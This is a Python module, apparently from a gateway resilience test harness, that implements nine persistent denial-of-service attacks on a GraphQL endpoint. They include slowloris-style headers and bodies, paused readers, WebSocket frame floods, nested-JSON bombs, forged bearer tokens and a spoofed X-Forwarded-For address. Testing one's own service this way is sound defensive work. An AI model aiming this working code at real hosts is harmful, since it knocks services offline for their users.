"""Abuse transport: attacks below GraphQL that go on until they are told to stop.

Each is a coroutine function of a host, a port and an event, and holds a bounded number of
connections. What the gateway does to them is none of their business: a connection that is cut is
opened again, a little later. The gateway is to believe one proxy (``ENDPAGE_PROXIES=1``), so that
the budgets of the attackers' address are not those of the canary.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable
from contextlib import suppress

from websockets.frames import Frame, Opcode

Attack = Callable[[str, int, asyncio.Event], Awaitable[None]]
_Talk = Callable[[asyncio.StreamReader, asyncio.StreamWriter, asyncio.Event], Awaitable[None]]

# By a proxy's word all of it comes from one address, which is not the canary's.
_FROM = b"Host: gateway\r\nX-Forwarded-For: 203.0.113.66\r\n"
_HANDSHAKE = (
    b"GET /graphql HTTP/1.1\r\n" + _FROM + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Protocol: graphql-transport-ws\r\n\r\n"
)
_POST = b"POST /graphql HTTP/1.1\r\n" + _FROM + b"Content-Type: application/json\r\n"
_AGAIN_SECONDS = 0.1
_DRIP_SECONDS = 0.5


async def slow_heads(host: str, port: int, stop: asyncio.Event) -> None:
    """200 connections that send a head a header at a time."""

    async def talk(
        _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        writer.write(b"GET /graphql HTTP/1.1\r\n" + _FROM)
        while not await _stopped(stop, _DRIP_SECONDS):
            writer.write(b"X-A: a\r\n")
            await writer.drain()

    await _many(200, talk, host, port, stop)


async def slow_bodies(host: str, port: int, stop: asyncio.Event) -> None:
    """200 connections that send a body a byte at a time."""

    async def talk(
        _reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        writer.write(_POST + b"Content-Length: 100000\r\n\r\n")
        while not await _stopped(stop, _DRIP_SECONDS):
            writer.write(b" ")
            await writer.drain()

    await _many(200, talk, host, port, stop)


async def slow_readers(host: str, port: int, stop: asyncio.Event) -> None:
    """50 connections that ask again and again, and read nothing of what is answered."""

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        reader._transport.pause_reading()  # type: ignore[attr-defined]  # It has no public way.
        while not await _stopped(stop, _DRIP_SECONDS):
            writer.write((b"GET /graphql HTTP/1.1\r\n" + _FROM + b"\r\n") * 16)
            await writer.drain()

    await _many(50, talk, host, port, stop)


async def big_frames(host: str, port: int, stop: asyncio.Event) -> None:
    """20 sockets that send messages of 200 KB that mean nothing."""
    message = json.dumps({"type": "ping", "payload": {"a": "a" * 200_000}}).encode()

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        await _opened(reader, writer)
        frame = Frame(Opcode.TEXT, message).serialize(mask=True)
        while not stop.is_set() and not reader.at_eof():
            writer.write(frame)
            await writer.drain()
            await reader.read(1 << 20)

    await _many(20, talk, host, port, stop)


async def little_frames(host: str, port: int, stop: asyncio.Event) -> None:
    """20 sockets that send pings as fast as they are taken."""

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        await _opened(reader, writer)
        pings = Frame(Opcode.PING, b"").serialize(mask=True) * 10_000
        while not stop.is_set() and not reader.at_eof():
            writer.write(pings)
            await writer.drain()
            await reader.read(1 << 20)

    await _many(20, talk, host, port, stop)


async def silent_sockets(host: str, port: int, stop: asyncio.Event) -> None:
    """400 sockets that never say who asks."""

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, stop: asyncio.Event
    ) -> None:
        await _opened(reader, writer)
        while not reader.at_eof() and not await _stopped(stop, _DRIP_SECONDS):
            pass

    await _many(400, talk, host, port, stop)


async def connections(host: str, port: int, stop: asyncio.Event) -> None:
    """100 connections at a time that are opened and closed at once."""

    async def talk(
        _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter, _stop: asyncio.Event
    ) -> None:
        return

    await _many(100, talk, host, port, stop)


async def garbage(host: str, port: int, stop: asyncio.Event) -> None:
    """20 connections at a time, each with a body that is nested without end."""
    body = b'{"query":"{ a }","variables":' + b'{"a":' * 40_000

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _stop: asyncio.Event
    ) -> None:
        writer.write(_POST + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        await reader.readuntil(b"\r\n\r\n")

    await _many(20, talk, host, port, stop)


async def bad_tokens(host: str, port: int, stop: asyncio.Event) -> None:
    """20 connections at a time that try tokens."""

    async def talk(
        reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _stop: asyncio.Event
    ) -> None:
        token = b"eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.e30." + b"a" * 342
        writer.write(_POST + b"Authorization: Bearer %b\r\nContent-Length: 2\r\n\r\n{}" % token)
        await reader.readuntil(b"\r\n\r\n")

    await _many(20, talk, host, port, stop)


ATTACKS: tuple[tuple[str, Attack], ...] = (
    ("slow heads", slow_heads),
    ("slow bodies", slow_bodies),
    ("slow readers", slow_readers),
    ("big frames", big_frames),
    ("little frames", little_frames),
    ("silent sockets", silent_sockets),
    ("connections", connections),
    ("garbage", garbage),
    ("bad tokens", bad_tokens),
)


async def _many(count: int, talk: _Talk, host: str, port: int, stop: asyncio.Event) -> None:
    """Hold so many conversations, each begun again when it is cut, until it is time to stop."""

    async def one() -> None:
        while not stop.is_set():
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                reader, writer = await asyncio.open_connection(host, port)
                try:
                    await _until_stopped(talk(reader, writer, stop), stop)
                finally:
                    writer.transport.abort()
            await _stopped(stop, _AGAIN_SECONDS)

    await asyncio.gather(*(one() for _ in range(count)))


async def _until_stopped(talking: Awaitable[None], stop: asyncio.Event) -> None:
    task, over = asyncio.ensure_future(talking), asyncio.ensure_future(stop.wait())
    try:
        await asyncio.wait([task, over], return_when=asyncio.FIRST_COMPLETED)
        if task.done():
            task.result()
    finally:
        for one in (task, over):
            one.cancel()
        await asyncio.gather(task, over, return_exceptions=True)


async def _stopped(stop: asyncio.Event, seconds: float) -> bool:
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await stop.wait()
    return stop.is_set()


async def _opened(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(_HANDSHAKE)
    await reader.readuntil(b"\r\n\r\n")
